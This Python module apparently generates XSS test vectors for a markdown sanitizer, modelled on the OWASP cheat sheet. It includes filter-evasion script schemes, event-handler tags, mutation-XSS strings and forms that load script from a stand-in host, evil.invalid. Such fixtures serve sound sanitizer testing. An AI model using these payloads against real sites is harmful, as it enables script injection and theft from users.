"""Two hundred ways to make a page run a script or call another host, after the OWASP cheat sheet."""

from itertools import product

CALL = "window.hit=1"
REMOTE = "https://evil.invalid"
_SCHEMES = [
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "java&#x0A;script:",
    " javascript:",
    "\x01javascript:",
    "vbscript:",
    "data:text/html,",
]
_LINKS = ["[x]({})", "[x](<{}>)", "![x]({})", "[x][r]\n\n[r]: {}", "<{}>", "[x]({} 'title')", "[![x]({})]({})"]
_EVENTS = ["onerror", "onload", "onmouseover", "onfocus", "onclick", "ontoggle", "onanimationstart", "onpointerenter"]
_TAGS = [
    "<img src=x {}={}>",
    "<svg {}={}>",
    "<body {}={}>",
    "<input autofocus {}={}>",
    "<details open {}={}>x</details>",
    "<video><source {}={}></video>",
    "<a href=# {}={}>x</a>",
    "<iframe {}={}></iframe>",
    "<math {}={}>",
    "<marquee {}={}>x",
]
_WHOLE = [
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<script src={}></script>",
    "<scr<script>ipt>{}</script>",
    "<svg><script>{}</script></svg>",
    "<style>@import '{}';</style>",
    "<link rel=stylesheet href={}>",
    "<meta http-equiv=refresh content='0;url={}'>",
    "<base href={}>",
    "<form action={}><button>x</button></form>",
    "<object data={}></object>",
    "<embed src={}>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<img src={}>",
    "![]({})",
    "<audio src={}></audio>",
    '<p style="background:url({})">x</p>',
    "<template><script>{}</script></template>",
    '<noscript><p title="</noscript><img src=x onerror={}>">',
    "<!--><img src=x onerror={}>-->",
    "<![CDATA[><img src=x onerror={}>]]>",
    "<math><mtext><table><mglyph><style><img src=x onerror={}>",
    '<svg></p><style><a id="</style><img src=1 onerror={}>">',
    "&lt;script&gt;{}&lt;/script&gt;",
    "`</code><script>{}</script>`",
    "```\n</code></pre><script>{}</script>\n```",
    "| a |\n|---|\n| <img src=x onerror={}> |",
    "- <img src=x onerror={}>",
    "> <img src=x onerror={}>",
    "# <img src=x onerror={}>",
    "[<img src=x onerror={}>](https://a.example)",
    "[x](https://a.example '\"><img src=x onerror={}>')",
    '[x](https://a.example/"><img/src=x/onerror={}>)',
    '<a href="https://a.example" style="x" onclick={}>x</a>',
    "</blockquote></li></ol><img src=x onerror={}>",
    "\u2028<img src=x onerror={}>",
    "<img\x00src=x onerror={}>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<xss contenteditable onfocus={} autofocus>",
    "<body/onload={}>",
]


def vectors() -> list[str]:
    """The vectors, each a piece of markdown."""
    links = [form.replace("{}", f"{scheme}{CALL}") for scheme, form in product(_SCHEMES, _LINKS)]
    tags = [form.format(name, CALL) for form, name in product(_TAGS, _EVENTS)]
    whole = [form.replace("{}", CALL) for form in _WHOLE] + [form.replace("{}", REMOTE) for form in _WHOLE[:17]]
    remote = [form.replace("{}", f"{REMOTE}/{number}") for number, form in enumerate(_LINKS)]
    return links + tags + whole + remote
